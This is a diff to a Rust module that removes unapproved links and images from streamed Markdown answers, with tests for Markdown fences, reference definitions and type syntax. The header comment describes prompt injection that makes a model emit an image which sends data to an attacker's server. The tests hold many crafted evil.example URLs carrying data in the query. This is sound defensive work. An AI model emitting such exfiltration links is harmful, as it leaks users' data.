@@ -2,12 +2,35 @@
 //!
 //! An answer is shown as Markdown, and a picture is fetched without a click: a text that the model read in a table could
 //! have it send what it saw to any server. So no address becomes a link or a picture that the caller, or who set up the
-//! Mind, has not written. The text stays readable: a space is put where the link would begin.
+//! Mind, has not written. The text stays readable: a space is put where the link would begin. Fenced code stays as it is, as
+//! long as nothing before it could make a renderer see the fence elsewhere.
 
 /// Bytes of an address that are waited for. A longer one is none that somebody wrote in a question.
 const MAX_ADDRESS: usize = 2_048;
 /// Bytes of what was said that are remembered, to know the scheme of an address.
 const MAX_TAIL: usize = 40;
+/// Bytes between angle brackets that may be a type's argument.
+const MAX_TYPE: usize = 60;
+/// What may stand behind an address that is whole.
+const SENTENCE: &str = ".,;:!?*_~";
+const CLOSING: &str = "()[]<>{}\"'`|";
+/// Tags that change how what follows is read, though they have no address.
+const TAGS: [&str; 12] = [
+    "iframe",
+    "math",
+    "noscript",
+    "object",
+    "plaintext",
+    "script",
+    "style",
+    "svg",
+    "template",
+    "textarea",
+    "title",
+    "xmp",
+];
+/// Marks behind which a renderer may take a fence for text, or text for a fence.
+const UNCLEAR: [&str; 5] = ["```", "~~~", "$$", ":::", "+++"];
 
 /// Takes the links out of a text that comes in pieces.
 #[derive(Debug)]
@@ -18,6 +41,12 @@ pub struct Links {
     held: String,
     /// The end of what was given on.
     tail: String,
+    /// Backticks of the fence of code that is open.
+    fence: Option<usize>,
+    /// A line begins here.
+    is_line_start: bool,
+    /// It is clear where a fence of code begins and ends.
+    is_clear: bool,
 }
 
 /// What to do at a place of the text.
@@ -37,6 +66,9 @@ impl Links {
             words,
             held: String::new(),
             tail: String::new(),
+            fence: None,
+            is_line_start: true,
+            is_clear: true,
         }
     }
 
@@ -56,40 +88,99 @@ impl Links {
         let mut given = String::with_capacity(held.len());
         let mut rest = held.as_str();
         while let Some(first) = rest.chars().next() {
-            let (length, is_broken) = match self.step(first, rest, is_end) {
+            let was_code = self.fence.is_some();
+            let step = match self.code(rest, is_end) {
+                Some(step) => step,
+                None => self.step(first, rest, is_end),
+            };
+            let (length, is_broken) = match step {
                 Step::Pass(length) => (length, false),
                 Step::Break(length) => (length, true),
                 Step::Wait => break,
             };
             let (passed, behind) = rest.split_at(length);
-            self.give(passed, &mut given);
+            if was_code || self.fence.is_some() {
+                given.push_str(passed);
+                self.tail.clear();
+            } else {
+                self.give(passed, &mut given);
+            }
             if is_broken {
                 self.give(" ", &mut given);
             }
+            self.is_line_start = passed.ends_with(['\n', '\r']);
             rest = behind;
         }
         self.held = rest.to_owned();
         given
     }
 
-    fn step(&self, first: char, rest: &str, is_end: bool) -> Step {
+    /// A line of fenced code, and those that begin and end it. Only fences without indentation count: they are in no list and
+    /// no quotation, whose end would end them too.
+    fn code(&mut self, rest: &str, is_end: bool) -> Option<Step> {
+        let end = rest.find(['\n', '\r']).map(|at| at + 1);
+        let whole = end.or(is_end.then_some(rest.len()));
+        let Some(ticks) = self.fence else {
+            if !self.is_line_start || !self.is_clear {
+                return None;
+            }
+            if !rest.starts_with("```") {
+                return ("```".starts_with(rest) && !is_end).then_some(Step::Wait);
+            }
+            if whole.unwrap_or(rest.len()) > MAX_ADDRESS {
+                return None;
+            }
+            let Some(length) = whole else {
+                return Some(Step::Wait);
+            };
+            let line = rest[..length].trim_end();
+            let info = line.trim_start_matches('`');
+            let is_word = |c: char| c.is_ascii_alphanumeric() || " +-_#.".contains(c);
+            if !info.chars().all(is_word) {
+                return None;
+            }
+            self.fence = Some(line.len() - info.len());
+            return Some(Step::Pass(length));
+        };
+        let within = Some(Step::Pass(end.unwrap_or(rest.len())));
+        if !self.is_line_start {
+            return within;
+        }
+        let indented = rest.bytes().take(3).take_while(|byte| *byte == b' ');
+        let line = &rest[indented.count()..];
+        if !line.is_empty() && !line.starts_with('`') {
+            return within;
+        }
+        let Some(length) = whole else {
+            return Some(Step::Wait);
+        };
+        let line = rest[..length].trim_start_matches(' ');
+        let behind = line.trim_start_matches('`');
+        if line.len() - behind.len() >= ticks && behind.trim().is_empty() {
+            self.fence = None;
+        }
+        Some(Step::Pass(length))
+    }
+
+    fn step(&mut self, first: char, rest: &str, is_end: bool) -> Step {
         let behind = &rest[first.len_utf8()..];
         let next = behind.chars().next();
         match (first, next) {
             (']' | '<', None) if !is_end => Step::Wait,
-            // A picture or link, and where one is defined.
-            (']', Some('(')) => match self.address(&behind[1..], is_end) {
+            // A picture or link.
+            (']', Some('(')) => match destination(&behind[1..], is_end) {
                 None => Step::Wait,
                 Some(address) if self.is_known(address) => Step::Pass(2 + address.len()),
                 Some(_) => Step::Break(1),
             },
-            (']', Some(':')) => Step::Break(1),
+            // Where one is defined.
+            (']', Some(':')) => self.at_definition(&behind[1..], is_end),
             // An address in angle brackets, or a tag.
             ('<', Some(next)) if next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?') => {
-                Step::Break(1)
+                self.at_bracket(behind, is_end)
             }
             (':', _) if self.scheme().is_some() => self.at_colon(behind, is_end),
-            ('.', _) if self.is_behind_www() => match self.address(behind, is_end) {
+            ('.', _) if self.is_behind_www() => match address(behind, is_end) {
                 None => Step::Wait,
                 Some(address) if self.is_known(&format!("www.{address}")) => {
                     Step::Pass(1 + address.len())
@@ -100,10 +191,56 @@ impl Links {
         }
     }
 
+    /// Behind `]:`. A word without the marks of an address leads nowhere else: `a[1]::int` and `list[int]: one`.
+    fn at_definition(&self, behind: &str, is_end: bool) -> Step {
+        if behind.is_empty() && !is_end {
+            return Step::Wait;
+        }
+        // A cast: no address begins with a colon.
+        if behind.starts_with(':') {
+            return Step::Pass(1);
+        }
+        let target = behind.trim_start();
+        let end = target.find(|c: char| c.is_whitespace() || c.is_control());
+        let word = match end {
+            Some(end) => &target[..end],
+            None if is_end || behind.len() > MAX_ADDRESS => target,
+            None => return Step::Wait,
+        };
+        // The address may stand in the next line, behind the mark of a quotation.
+        let is_below = behind[..behind.len() - target.len()].contains(['\n', '\r']);
+        let leads = is_below
+            || word.len() > MAX_ADDRESS
+            || word.contains("//")
+            || word.contains([':', '&', '\\', '<']);
+        match leads && !self.is_known(word) {
+            true => Step::Break(1),
+            false => Step::Pass(1),
+        }
+    }
+
+    /// Behind `<`. What cannot hold an address stays: `List<String>`.
+    fn at_bracket(&mut self, behind: &str, is_end: bool) -> Step {
+        let is_type = |c: char| c.is_alphanumeric() || "_,. []".contains(c);
+        let end = behind.find(|c: char| !is_type(c));
+        if end.is_none() && behind.len() <= MAX_TYPE && !is_end {
+            return Step::Wait;
+        }
+        let inner = &behind[..end.unwrap_or(0)];
+        let is_whole = inner.len() <= MAX_TYPE && behind[inner.len()..].starts_with('>');
+        let name = inner.split(|c: char| !c.is_alphanumeric()).next();
+        let name = name.unwrap_or_default().to_ascii_lowercase();
+        if inner.is_empty() || !is_whole || TAGS.contains(&name.as_str()) {
+            return Step::Break(1);
+        }
+        self.is_clear = false;
+        Step::Pass(1)
+    }
+
     fn at_colon(&self, behind: &str, is_end: bool) -> Step {
         let slashes = behind.bytes().take(2).take_while(|byte| *byte == b'/');
         match slashes.count() {
-            2 => match self.address(behind, is_end) {
+            2 => match address(behind, is_end) {
                 None => Step::Wait,
                 Some(address) => {
                     let scheme = self.scheme().unwrap_or_default();
@@ -118,30 +255,22 @@ impl Links {
         }
     }
 
-    /// The address that a text begins with; `None` while its end has not come.
-    fn address<'a>(&self, text: &'a str, is_end: bool) -> Option<&'a str> {
-        let is_over = |c: char| c.is_whitespace() || c.is_control() || "()[]<>{}\"'`|".contains(c);
-        match text.find(is_over) {
-            Some(end) => Some(&text[..end]),
-            None if is_end || text.len() > MAX_ADDRESS => Some(text),
-            None => None,
-        }
-    }
-
-    /// Whether an address stands in the question. What ends a sentence is no part of it.
+    /// Whether a whole address stands in the question.
     fn is_known(&self, address: &str) -> bool {
-        let address = address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
-        let is_whole = |rest: &str| {
-            let next = rest.chars().next();
-            next.is_none_or(|c| !c.is_alphanumeric() && c != '/')
+        let authority = match address.split_once("://") {
+            Some((_, behind)) => behind,
+            None if address.starts_with("www.") => address,
+            None => return false,
         };
-        !address.is_empty()
+        let authority = authority.split(['/', '?', '#']).next().unwrap_or_default();
+        !authority.is_empty()
+            && !authority.contains('@')
+            && !address.contains(['\\', '<', '>'])
             && address.len() <= MAX_ADDRESS
-            && (address.contains("://") || address.starts_with("www."))
             && self
                 .words
                 .match_indices(address)
-                .any(|(at, _)| is_whole(&self.words[at + address.len()..]))
+                .any(|(at, _)| is_over(&self.words[at + address.len()..]))
     }
 
     /// The word that ends just here, if it may be a scheme.
@@ -159,6 +288,13 @@ impl Links {
     fn give(&mut self, text: &str, given: &mut String) {
         given.push_str(text);
         self.tail.push_str(text);
+        let is_odd = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t');
+        if self.tail.starts_with("---")
+            || UNCLEAR.iter().any(|mark| self.tail.contains(mark))
+            || text.contains(is_odd)
+        {
+            self.is_clear = false;
+        }
         let mut cut = self.tail.len().saturating_sub(MAX_TAIL);
         while !self.tail.is_char_boundary(cut) {
             cut += 1;
@@ -167,11 +303,52 @@ impl Links {
     }
 }
 
+/// The address that a text begins with, without what ends a sentence or a bracket behind it; `None` while its end has not
+/// come. Renderers read up to a space, whatever stands in it.
+fn address(text: &str, is_end: bool) -> Option<&str> {
+    let is_space = |c: char| c.is_whitespace() || c.is_control() || c == '<';
+    let end = [text.find(is_space), text.find("](")];
+    let whole = match end.into_iter().flatten().min() {
+        Some(end) => &text[..end],
+        None if is_end || text.len() > MAX_ADDRESS => text,
+        None => return None,
+    };
+    Some(whole.trim_end_matches(|c: char| SENTENCE.contains(c) || CLOSING.contains(c)))
+}
+
+/// Where a link leads, which ends with a space or the bracket that closes it; `None` while its end has not come.
+fn destination(text: &str, is_end: bool) -> Option<&str> {
+    let mut open = 0_usize;
+    for (at, c) in text.char_indices() {
+        match c {
+            '(' => open += 1,
+            ')' if open == 0 => return Some(&text[..at]),
+            ')' => open -= 1,
+            _ if c.is_whitespace() || c.is_control() => return Some(&text[..at]),
+            _ => {}
+        }
+    }
+    (is_end || text.len() > MAX_ADDRESS).then_some(text)
+}
+
+/// Whether an address that stands before this text is whole.
+fn is_over(rest: &str) -> bool {
+    let is_end = |c: char| {
+        c.is_whitespace()
+            || c.is_control()
+            || CLOSING.contains(c)
+            || (!c.is_ascii() && !c.is_alphanumeric())
+    };
+    let behind = rest.trim_start_matches(|c: char| SENTENCE.contains(c));
+    behind.chars().next().is_none_or(is_end)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    const QUESTION: &str = "Is https://shop.example/a?b=1 up, or www.other.example?";
+    const QUESTION: &str =
+        "Is https://shop.example/a?b=1 up, or www.other.example? (Ask https://shop.example)";
 
     /// The answer as it is shown, whole and letter by letter.
     fn shown(answer: &str) -> String {
@@ -193,6 +370,9 @@ mod tests {
             "It is: https://shop.example/a?b=1.",
             "See [the shop](https://shop.example/a?b=1) and www.other.example!",
             "![](https://shop.example/a?b=1 \"title\")",
+            "[https://shop.example](https://shop.example)",
+            "**https://shop.example**, \"https://shop.example\" or (`https://shop.example`).",
+            "[x]: https://shop.example",
         ] {
             assert_eq!(shown(answer), answer);
         }
@@ -225,6 +405,94 @@ mod tests {
             ),
         ] {
             assert_eq!(shown(answer), text);
+        }
+    }
+
+    #[test]
+    fn address_that_only_begins_like_one_of_the_question_is_text() {
+        for address in [
+            "https://shop.example'@evil.example/?d=73421",
+            "https://shop.example()@evil.example/?d=73421",
+            "https://shop.example(@evil.example/)?d=73421",
+            "https://shop.example\"@evil.example/?d=73421",
+            "https://shop.example|@evil.example/?d=73421",
+            "https://shop.example`@evil.example/?d=73421",
+            "https://shop.example[x]@evil.example/?d=73421",
+            "https://shop.example{}@evil.example/?d=73421",
+            "https://shop.example>@evil.example/?d=73421",
+            "https://shop.example@evil.example/?d=73421",
+            "https://shop.example:73421@evil.example/",
+            "https://shop.example\\@evil.example/?d=73421",
+            "https://shop.example:73421",
+            "https://shop.example?d=73421",
+            "https://shop.example#73421",
+            "https://shop.example/73421",
+            "https://shop.example/a?b=1'73421",
+            "https://shop.example%2e@evil.example",
+        ] {
+            let broken = address.replace("https://", "https: //");
+            assert_eq!(shown(address), broken);
+            assert_eq!(shown(&format!("![]({address})")), format!("![] ({broken})"));
+            assert_eq!(shown(&format!("[x]: {address}")), format!("[x] : {broken}"));
+        }
+        // Not even one that the question has.
+        let mut links = Links::new("Is https://me@shop.example up?".to_owned());
+        let shown = links.next("![](https://me@shop.example)") + &links.end();
+        assert_eq!(shown, "![] (https: //me@shop.example)");
+    }
+
+    #[test]
+    fn definition_breaks_where_it_leads_elsewhere() {
+        for (answer, text) in [
+            ("[x]: //evil.example", "[x] : //evil.example"),
+            ("> [x]:\n> //evil.example", "> [x] :\n> //evil.example"),
+            ("[x]:\n//evil.example", "[x] :\n//evil.example"),
+            (
+                "[x]:https&colon;//evil.example",
+                "[x] :https&colon;//evil.example",
+            ),
+            ("[x]: \\\\evil.example", "[x] : \\\\evil.example"),
+            ("[x]: <//evil.example>", "[x] : < //evil.example>"),
+        ] {
+            assert_eq!(shown(answer), text);
+        }
+    }
+
+    #[test]
+    fn code_is_as_it_was() {
+        for answer in [
+            "Cast with a[1]::int, or b[2]::numeric(10,2).",
+            "It is a `List<String>` or Map<String, Integer>[].",
+            "dict[key]: value",
+            "```sql\nSELECT a[1]::int, '<a href=x>' FROM t -- see https://docs.example\n```\nDone.",
+            "One\n````\n```\n[x]: https://evil.example\n   ````\nTwo",
+            "```\n<img src=x>",
+        ] {
+            assert_eq!(shown(answer), answer);
+        }
+    }
+
+    #[test]
+    fn code_that_ends_earlier_than_it_looks_hides_no_link() {
+        for begin in [
+            "```\ncode\n```\n",
+            "```\ncode\n  ```  \n",
+            "```\ncode\r```\r",
+            "```a`b\n",
+            "  ```\n```\n",
+            "> ```\n",
+            "- a\n  ```\n",
+            "~~~\n```\n~~~\n",
+            "$$\n```\n$$\n",
+            "---\n```\n---\n",
+            "a ``` b\n```\n",
+            "x<pre>\n```\n</pre>\n",
+            "`",
+            "\\`",
+        ] {
+            let answer = format!("{begin}![](https://evil.example/?d=1) `");
+            let shown = shown(&answer);
+            assert!(shown.contains("![] (https: //evil"), "{shown}");
         }
     }
 
